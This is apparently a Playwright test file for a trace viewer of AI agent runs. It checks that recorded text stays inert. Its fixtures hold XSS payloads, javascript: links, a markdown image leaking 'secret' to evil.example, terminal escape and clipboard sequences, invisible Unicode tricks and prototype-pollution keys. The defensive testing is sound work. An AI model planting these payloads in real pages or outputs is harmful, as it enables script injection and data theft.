import { expect, test } from "./fixtures";
import { payload, Recorder } from "./records";
import { watch } from "./watch";

const MARKUP = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "</textarea></title><script>alert(1)</script>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "{{constructor.constructor('alert(1)')()}}",
  "[click](javascript:alert(1))",
  "![leak](https://evil.example/?q=secret)",
  "<style>*{display:none}</style>",
];
/** What a renderer of Markdown or of pictures would make a link, a picture or a page of. */
const RICH = [
  "[a](vbscript:msgbox(1)) [b](data:text/html,<script>alert(1)</script>) [c][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)> https://evil.example/auto ![p](https://evil.example/pixel.png?q=secret)",
  "<a href='https://evil.example' target=_blank>x</a><base href=https://evil.example/>",
  '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
  "$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/x.png}$$",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "<!doctype html><html><body onload=alert(1)><form action=https://evil.example><input></form>",
  "url(https://evil.example/x.css); background: red; } * { display: none",
];
/** Commands for terminals: a colour, a link, the clipboard, the title, a line written over. */
const ESCAPES =
  "\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]52;c;ZXZpbA==\u0007\u001b]0;title\u0007\rover\u0008";
/** Letters of Unicode's tags, which nobody sees and a model reads, and a name that looks like another. */
const INVISIBLE = "see\u{e0069}\u{e0067}\u{e006e}\u202e\u2066\u200d\u00adhidden";
const LOOKALIKE = "we\u0431_search";
const HIDDEN = "safe\u202Egpj.exe\u200B\u001b[31m\u001b]8;;https://evil.example\u0007x";
const KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "__proto__.polluted",
  "toString",
  "a.b",
  "a",
];

function hostileRun() {
  const all = MARKUP.join(" ");
  const recorder = new Recorder(all.slice(0, 400), {
    correlation_id: MARKUP[1],
    tags: [MARKUP[0], HIDDEN.slice(0, 40)],
    input: {
      value: Object.fromEntries(MARKUP.map((text) => [text, text])),
      codec: "json",
      fidelity: "exact",
    },
    attributes: Object.fromEntries([...KEYS, ...MARKUP].map((key) => [key, all])),
  });
  const error = {
    type: MARKUP[0],
    message: all,
    traceback: `${all}\n${HIDDEN}`,
    cause: { type: MARKUP[2], message: HIDDEN },
  };
  const attributes = JSON.parse(
    `{${KEYS.map((key) => `${JSON.stringify(key)}:"polluted"`).join()}}`,
  ) as object;
  const chat = recorder.span({
    name: MARKUP[1] ?? "",
    type: "LLM_CALL",
    atMs: 1,
    status: "ERROR",
    input: {
      messages: [
        { role: "<b>user</b>", content: all },
        { role: "user", content: HIDDEN },
      ],
    },
    output: all,
    fields: { model: MARKUP[2], error, attributes },
  });
  const documents = recorder.span({
    name: HIDDEN,
    type: "RETRIEVAL",
    atMs: 2,
    input: { query: all },
    output: { documents: [{ id: all, content: all, score: "<b>9</b>", [all]: all }] },
  });
  const decision = recorder.span({
    name: "x".repeat(500) + "\u0301".repeat(12),
    type: "DECISION",
    atMs: 3,
    input: { options: MARKUP },
    output: { chosen: MARKUP[0], reason: all },
  });
  const spans = [chat, documents, decision];
  return {
    runId: recorder.runId,
    ids: spans.map(({ id }) => id),
    records: [
      recorder.start(),
      ...spans.map(({ end }) => end),
      recorder.event(chat.id, MARKUP[0] ?? "", { html: all }, 5),
      recorder.end(10, "ERROR", { error }),
    ],
  };
}

test("H20: recorded text is text, wherever it stands", async ({ page, server }) => {
  const run = hostileRun();
  await server.ingest(run.records);
  const findings = await watch(page, server.url);
  await page.goto(`/?correlation=${encodeURIComponent(MARKUP[1] ?? "")}`);
  await expect(page.locator(`[data-run="${run.runId}"]`)).toContainText(MARKUP[0] ?? "");
  await page.goto(`/runs/${run.runId}`);
  await expect(page.locator("[data-span]")).toHaveCount(3);
  await expect(page.getByTestId("error")).toContainText(MARKUP[4] ?? "");
  for (const id of run.ids) {
    for (const view of ["overview", "input", "output", "attributes", "events"]) {
      await page.goto(`/runs/${run.runId}?span=${id}&view=${view}`);
      await expect(page.locator(`[data-span="${id}"][aria-selected="true"]`)).toBeVisible();
      await expect(page.getByRole("tabpanel")).not.toBeEmpty();
      await expect(page.getByText("Loading…")).toHaveCount(0);
      expect(await findings()).toEqual([]);
    }
  }
  const polluted = await page.evaluate(() => ({}) as { polluted?: unknown });
  expect(polluted.polluted).toBeUndefined();
  expect(
    await page.locator("main img, main iframe, main script, main a[href^=javascript]").count(),
  ).toBe(0);
  expect(await page.title()).toContain("<script>alert(1)</script>");
});

test("H17: what cannot be seen is marked", async ({ page, server }) => {
  const run = hostileRun();
  await server.ingest(run.records);
  await page.goto(`/runs/${run.runId}?span=${run.ids[1]}`);
  await expect(page.getByRole("heading", { level: 2 })).toHaveText(
    "safeU+202Egpj.exeU+200B U+001B[31mU+001B]8;;https://evil.exampleU+0007x",
  );
});

test("H27: attributes of any name are shown as they are", async ({ page, server }) => {
  const run = hostileRun();
  await server.ingest(run.records);
  await page.goto(`/runs/${run.runId}?span=${run.ids[0]}&view=attributes`);
  for (const key of KEYS) {
    await expect(page.getByRole("tabpanel").getByText(key, { exact: true })).toBeVisible();
  }
});

function richRun() {
  const all = RICH.join("\n\n");
  const recorder = new Recorder(RICH[7] ?? "", { input: payload(all), tags: [RICH[0] ?? ""] });
  const step = recorder.span({
    name: RICH[7] ?? "",
    type: "LLM_CALL",
    atMs: 1,
    input: { messages: RICH.map((content) => ({ role: "user", content })) },
    output: all,
    fields: { model: RICH[5], attributes: { [RICH[2] ?? ""]: all } },
  });
  const seen = recorder.span({
    name: LOOKALIKE,
    type: "TOOL_CALL",
    atMs: 2,
    input: INVISIBLE,
    output: ESCAPES,
  });
  return {
    runId: recorder.runId,
    rich: step.id,
    seen: seen.id,
    records: [recorder.start(), step.end, seen.end, recorder.end(10)],
  };
}

test("H21, H22, H23: nothing recorded becomes a link, a picture or a page", async ({
  page,
  server,
}) => {
  const run = richRun();
  await server.ingest(run.records);
  const findings = await watch(page, server.url);
  for (const view of ["overview", "input", "output", "attributes"]) {
    await page.goto(`/runs/${run.runId}?span=${run.rich}&view=${view}`);
    await expect(page.locator(`[data-span="${run.rich}"][aria-selected="true"]`)).toBeVisible();
    await expect(page.getByRole("tabpanel")).not.toBeEmpty();
    await expect(page.getByText("Loading…")).toHaveCount(0);
    const made = await page.evaluate(() => ({
      elements: document.querySelectorAll(
        "main img, main iframe, main object, main embed, main form, main base, main foreignObject, main math, main style",
      ).length,
      // Links lead to pages of ours, and a file is fetched from here.
      links: [...document.querySelectorAll("a, area")]
        .map((link) => link.getAttribute("href") ?? "")
        .filter((href) => !/^[/?#][^/]?/.test(href) || href.startsWith("//")),
    }));
    expect(made).toEqual({ elements: 0, links: [] });
    expect(await findings()).toEqual([]);
  }
});

test("H17, H18: what one cannot see is marked, and copied as it is", async ({
  page,
  context,
  server,
}) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const run = richRun();
  await server.ingest(run.records);
  await page.goto(`/runs/${run.runId}?span=${run.seen}&view=input`);
  const panel = page.getByRole("tabpanel");
  await expect(panel).toContainText("U+E0069");
  await expect(panel).not.toContainText("\u{e0069}");
  await panel.getByRole("button", { name: "Copy the value" }).first().click();
  await expect
    .poll(() => page.evaluate(() => navigator.clipboard.readText()))
    .toContain("see\u{e0069}\u{e0067}\u{e006e}\u202e");
  await page.goto(`/runs/${run.runId}?span=${run.seen}&view=output`);
  await expect(panel).toContainText("U+001B]52;c;ZXZpbA==");
  await expect(panel).not.toContainText("\u001b");
  await expect(page.getByRole("heading", { level: 2 })).toHaveText(LOOKALIKE);
});

test("H24: titles, labels and styles take a name as text", async ({ page, server }) => {
  const run = richRun();
  await server.ingest(run.records);
  const findings = await watch(page, server.url);
  await page.goto(`/runs/${run.runId}?span=${run.rich}`);
  await expect(page.locator(`[data-span="${run.rich}"]`)).toBeVisible();
  await expect(page).toHaveTitle(/url\(https:\/\/evil\.example/);
  const styles = await page.evaluate(() =>
    [...document.querySelectorAll("[style]")]
      .map((element) => element.getAttribute("style") ?? "")
      .filter((style) => /evil|url\(|display: none/.test(style)),
  );
  expect(styles).toEqual([]);
  expect(await findings()).toEqual([]);
});
